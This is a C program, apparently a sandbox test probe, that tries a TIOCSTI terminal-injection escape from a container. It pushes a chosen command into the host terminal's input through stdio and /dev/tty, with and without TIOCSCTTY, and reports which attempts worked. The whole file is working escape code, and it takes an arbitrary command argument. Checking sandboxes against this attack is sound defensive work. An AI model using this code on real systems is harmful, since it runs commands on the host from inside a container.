/* An attacker inside a container with the caller's terminal on its stdio:
 * push "COMMAND\n" into the terminal's input with TIOCSTI, through fds 0-2
 * and /dev/tty, first as it is, then after trying to make the terminal its
 * controlling tty (TIOCSCTTY, plain and forced). If any push works, the
 * shell that reads the terminal after us runs COMMAND on the host.
 * Prints one line per attempt; "INJECTED" marks a push that worked.
 * Usage: tiocsti COMMAND */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int push(int fd, const char *text)
{
    for (const char *c = text; *c; c++)
        if (ioctl(fd, TIOCSTI, c) < 0)
            return -1;
    return 0;
}

static void attempt(int fd, const char *how, const char *cmd)
{
    char line[4096];
    snprintf(line, sizeof(line), "%s\n", cmd);
    if (push(fd, line) == 0)
        fprintf(stderr, "INJECTED via %s\n", how);
    else
        fprintf(stderr, "refused via %s: %s\n", how, strerror(errno));
}

int main(int argc, char **argv)
{
    const char *cmd = argc > 1 ? argv[1] : "touch /tmp/servos-tiocsti";
    char how[64];
    fprintf(stderr, "session %d, pgrp %d, tty pgrp on 0: %d\n", (int)getsid(0), (int)getpgrp(),
            (int)tcgetpgrp(0));
    for (int fd = 0; fd < 3; fd++) {
        snprintf(how, sizeof(how), "fd %d", fd);
        attempt(fd, how, cmd);
    }
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty >= 0)
        attempt(tty, "/dev/tty", cmd);
    else
        fprintf(stderr, "refused via /dev/tty: %s\n", strerror(errno));
    for (int force = 0; force < 2; force++)
        for (int fd = 0; fd < 3; fd++) {
            if (ioctl(fd, TIOCSCTTY, force) < 0) {
                fprintf(stderr, "refused TIOCSCTTY(%d) on fd %d: %s\n", force, fd, strerror(errno));
                continue;
            }
            snprintf(how, sizeof(how), "fd %d after TIOCSCTTY(%d)", fd, force);
            attempt(fd, how, cmd);
        }
    return 0;
}
